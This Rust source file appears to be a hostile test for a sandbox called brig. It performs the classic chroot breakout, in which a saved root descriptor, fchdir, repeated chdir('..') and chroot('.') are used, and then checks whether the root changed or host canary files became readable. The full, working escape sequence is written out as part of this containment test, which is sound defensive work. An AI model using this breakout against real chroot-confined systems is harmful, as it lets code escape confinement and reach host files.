//! The classic chroot breakout: keep a handle on the current root, chroot
//! into a subdirectory, fchdir back to the handle, chdir("..") many times,
//! then chroot(".") — which escapes a plain chroot.
//!
//! Contained: brig uses pivot_root into its own mount namespace, so the
//! walk ends at the sandbox's root (same device and inode as before) and no
//! host canary becomes reachable. chroot itself may be allowed
//! (CAP_SYS_CHROOT is in the sandbox's set). Escaped: the final root is a
//! different directory, or a canary is readable.

use std::os::fd::AsRawFd;

use brig_hostile::{cstr, dev_ino, errno, errno_name, list_dir, open, read_file, Args, Report};

fn main() {
    let args = Args::get();
    let canary = args.canary();
    let mut report = Report::new("chroot_breakout");
    let before = dev_ino("/").expect("stat /");
    let jail = "/tmp/brig-hostile-jail/inner";
    let _ = std::fs::create_dir_all(jail);
    let outside = match open("/", libc::O_RDONLY | libc::O_DIRECTORY) {
        Ok(fd) => fd,
        Err(e) => {
            report.note(format!("open /: {}", errno_name(e)));
            report.finish()
        }
    };
    let j = cstr(jail);
    // SAFETY: NUL-terminated path.
    if unsafe { libc::chroot(j.as_ptr()) } != 0 {
        report.note(format!(
            "chroot {jail}: {} (breakout impossible)",
            errno_name(errno())
        ));
        report.finish();
    }
    report.note(format!("chroot {jail}: ok"));
    let (up, dot) = (cstr(".."), cstr("."));
    // SAFETY: outside is an open directory fd; paths are NUL-terminated.
    unsafe {
        libc::fchdir(outside.as_raw_fd());
        for _ in 0..128 {
            libc::chdir(up.as_ptr());
        }
    }
    // SAFETY: NUL-terminated path.
    let r = unsafe { libc::chroot(dot.as_ptr()) };
    report.note(format!(
        "fchdir + 128x chdir(..) + chroot(.): {}",
        if r == 0 {
            "ok".into()
        } else {
            errno_name(errno())
        }
    ));
    match dev_ino("/") {
        Ok(after) if after == before => report.note("final root is the sandbox root"),
        Ok(after) => {
            let names = list_dir("/").unwrap_or_default();
            report.escape(format!(
                "final root {after:?} differs from the sandbox root {before:?}; it holds {names:?}"
            ));
        }
        Err(e) => report.note(format!("stat / afterwards: {}", errno_name(e))),
    }
    for f in [format!("/root/{canary}"), format!("/var/tmp/{canary}")] {
        if let Ok(b) = read_file(&f) {
            report.escape(format!(
                "read host canary {f} after the breakout ({} bytes)",
                b.len()
            ));
        }
    }
    report.finish()
}
